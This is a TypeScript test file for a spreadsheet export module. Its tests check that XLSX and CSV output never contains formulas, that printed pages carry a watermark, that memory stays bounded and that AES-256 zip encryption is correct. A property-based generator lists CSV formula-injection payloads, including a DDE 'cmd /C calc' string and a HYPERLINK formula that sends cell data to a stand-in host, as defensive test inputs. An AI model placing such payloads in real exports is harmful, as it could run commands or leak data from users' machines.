import { createCipheriv, createHmac, pbkdf2Sync } from 'node:crypto'
import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { inflateRawSync } from 'node:zlib'
import { read, utils } from '@e965/xlsx'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { type Cell, csvText } from './cell.ts'
import { csvBegin, csvRows } from './csv.ts'
import { openBook, xlsxBuffer } from './xlsx.ts'
import { lockedZip } from './zip.ts'

/** What a spreadsheet program could take for a formula, in every dress people have found. */
const attack = fc.tuple(fc.constantFrom('', ' ', '\t', '\r', '\n', '\u3000', '\u200b', '\ufeff', '"', "'"), fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '−'), fc.constantFrom('1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://x.test/"&A1,"点击")', 'SUM(1,2)', ''))
  .map(parts => parts.join(''))
const cell: fc.Arbitrary<Cell> = fc.oneof(attack, fc.string({ unit: 'grapheme', maxLength: 30 }), fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.constant(null))
const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 6 }), { maxLength: 8 })

test('no cell of a workbook is ever a formula; numbers are numbers, texts are the texts they were', async () => {
  await fc.assert(fc.asyncProperty(rows, async rows => {
    const sheet = read(await xlsxBuffer('导出人', [{ name: '数据', heads: [], rows }]), { cellFormula: true }).Sheets.数据 ?? {}
    for (const [r, cells] of rows.entries()) {
      for (const [c, value] of cells.entries()) {
        const there = sheet[utils.encode_cell({ r, c })]
        expect(there?.f).toBeUndefined()
        if (typeof value === 'number') expect([there.t, there.v]).toEqual(['n', value === 0 ? 0 : value])
        else if (value) expect(there?.t ?? 's').toBe('s')
        // XML itself has one kind of line break, and no control characters
        if (typeof value === 'string' && /^[^\p{Cc}\ufffe\uffff]+$/u.test(value)) expect(there.v).toBe(value)
      }
    }
  }), { numRuns: 60 })
})

test('no field of a CSV file begins like a formula unless it is a number', async () => {
  await fc.assert(fc.asyncProperty(rows, async rows => {
    const read: string[][] = parse(Buffer.concat([csvBegin('导出人', ['甲']), csvRows(rows)]), { bom: true, relax_column_count: true })
    expect(read.slice(2)).toHaveLength(rows.length)
    for (const [r, cells] of rows.entries()) {
      for (const [c, value] of cells.entries()) {
        const field = read[r + 2]?.[c] ?? ''
        if (typeof value === 'number') expect(Number(field)).toBe(value === 0 ? 0 : value)
        else expect(field).not.toMatch(/^[\s\u200b\ufeff"]*[=+\-@＝＋－＠−]/)
      }
    }
  }), { numRuns: 60 })
})

test.each([['=1+1', "'=1+1"], ['＝1+1', "'＝1+1"], ['-2', "'-2"], ['+86138', "'+86138"], ['@SUM(A1)', "'@SUM(A1)"], ['\t=1', "'\t=1"], [' =1', "' =1"], ['路灯 = 坏', '路灯 = 坏'], ['2026-07-01', '2026-07-01'], ['', '']])('%j in a CSV file is %j', (text, written) => {
  expect(csvText(text)).toBe(written)
})

test('whose copy it is stands above and below every printed page', async () => {
  const file = await xlsxBuffer('督办员01（supervisor01）2026-07-01 09:30 A&B', [{ name: '数据', heads: [['首行']], rows: [['x']] }])
  const sheet = entriesOf(file).find(entry => entry.name.endsWith('sheet1.xml'))?.content().toString() ?? ''
  expect(sheet).toContain('<oddHeader>&amp;C督办员01（supervisor01）2026-07-01 09:30 A&amp;&amp;B</oddHeader>')
  expect(sheet).toContain('<oddFooter>&amp;L督办员01（supervisor01）2026-07-01 09:30')
})

test('a workbook written by one process after another, each knowing only what was kept, is the one a single process writes', async () => {
  const pages = Array.from({ length: 6 }, (_, page) => Array.from({ length: 50 }, (_, row): Cell[] => [page, `第 ${row} 行 <&>`, row / 7]))
  const write = async (kept: <T>(state: T) => T) => {
    let book = openBook('导出人')
    const parts: Buffer[] = []
    const next = async (bytes: Promise<Buffer>) => {
      parts.push(await bytes)
      book = openBook('导出人', kept(book.state))
    }
    for (const [nth, rows] of pages.entries()) {
      if (nth % 3 === 0) await next(book.sheet({ name: `数据${nth}`, heads: [['页', '文字', '数']] }))
      await next(book.rows(rows))
    }
    await next(book.close())
    return Buffer.concat(parts)
  }
  const whole = await write(state => state)
  expect((await write(state => JSON.parse(JSON.stringify(state)))).equals(whole)).toBe(true)
  const book = read(whole)
  expect(book.SheetNames).toEqual(['数据0', '数据3'])
  expect(utils.sheet_to_json(book.Sheets.数据3 ?? {}, { header: 1 })).toEqual([['页', '文字', '数'], ...pages.slice(3).flat()])
})

setFlagsFromString('--expose-gc')
const collect: () => void = runInNewContext('gc')
/** Bytes something still holds on to, of this whole process. */
function held(): number {
  collect()
  const { heapUsed, arrayBuffers } = process.memoryUsage()
  return heapUsed + arrayBuffers
}

test('memory does not grow with the rows of a workbook', async () => {
  const book = openBook('导出人')
  await book.sheet({ name: '数据', heads: [] })
  const rows = Array.from({ length: 1000 }, (_, row): Cell[] => [row, '来电人反映路灯不亮，请核实处理。'.repeat(8)])
  // Others of this process come to hold something meanwhile, too, but not each time.
  const grown: number[] = []
  for (let stretch = 0; stretch < 4; stretch++) {
    const before = held()
    let size = 0
    for (let page = 0; page < 20; page++) size += (await book.rows(rows)).length
    expect(size, '20,000 rows, 8 MB of XML').toBeGreaterThan(30_000)
    grown.push(held() - before)
  }
  expect(JSON.stringify(book.state).length, 'what has to be known to go on').toBeLessThan(2000)
  expect(Math.min(...grown)).toBeLessThan(4e6)
})

test('a zip opens with its password and with no other; it is AES-256, told here by the WinZip specification and not by the library that wrote it', async () => {
  const parts: Buffer[] = []
  const content = Buffer.from('标记诉求人 13800001234 '.repeat(5000))
  for await (const part of lockedZip('工单列表.csv', (async function* () { yield content.subarray(0, 1000); yield content.subarray(1000) })(), 'kV7m-Qp2x-9Rtw')) parts.push(part)
  const zip = Buffer.concat(parts)
  const [entry] = entriesOf(zip)
  expect([entry?.name, entry?.method, entry?.encrypted]).toEqual(['工单列表.csv', 99, true])
  expect(zip.includes('13800001234')).toBe(false)
  expect(unlocked(entry?.data ?? Buffer.alloc(0), 'kV7m-Qp2x-9Rtw')?.equals(content)).toBe(true)
  expect(unlocked(entry?.data ?? Buffer.alloc(0), 'kV7m-Qp2x-9Rtx')).toBeNull()
})

/** AE-2 as WinZip describes it: 16 bytes of salt, two to check the password, AES-256 in counter mode (the counter little-endian), HMAC-SHA-1 cut to 10 bytes. null: another password. */
function unlocked(data: Buffer, password: string): Buffer | null {
  const keys = pbkdf2Sync(password, data.subarray(0, 16), 1000, 66, 'sha1')
  if (!keys.subarray(64).equals(data.subarray(16, 18))) return null
  const body = data.subarray(18, -10)
  expect(createHmac('sha1', keys.subarray(32, 64)).update(body).digest().subarray(0, 10)).toEqual(data.subarray(-10))
  const pad = createCipheriv('aes-256-ecb', keys.subarray(0, 32), null)
  const counters = Buffer.alloc(Math.ceil(body.length / 16) * 16)
  for (let block = 0; block * 16 < body.length; block++) counters.writeUInt32LE(block + 1, block * 16)
  const stream = pad.update(counters)
  return inflateRawSync(body.map((byte, at) => byte ^ (stream[at] ?? 0)))
}

/** The files of a zip, from its central directory. */
function entriesOf(zip: Buffer) {
  const end = zip.lastIndexOf(Buffer.from('PK\x05\x06', 'latin1'))
  let at = zip.readUInt32LE(end + 16)
  return Array.from({ length: zip.readUInt16LE(end + 10) }, () => {
    const [nameLength, extra, comment] = [zip.readUInt16LE(at + 28), zip.readUInt16LE(at + 30), zip.readUInt16LE(at + 32)]
    const [start, size, method] = [zip.readUInt32LE(at + 42), zip.readUInt32LE(at + 20), zip.readUInt16LE(at + 10)]
    const from = start + 30 + zip.readUInt16LE(start + 26) + zip.readUInt16LE(start + 28)
    const data = zip.subarray(from, from + size)
    const entry = { name: zip.toString('utf8', at + 46, at + 46 + nameLength), method, encrypted: (zip.readUInt16LE(at + 8) & 1) === 1, data, content: () => inflateRawSync(data) }
    at += 46 + nameLength + extra + comment
    return entry
  })
}
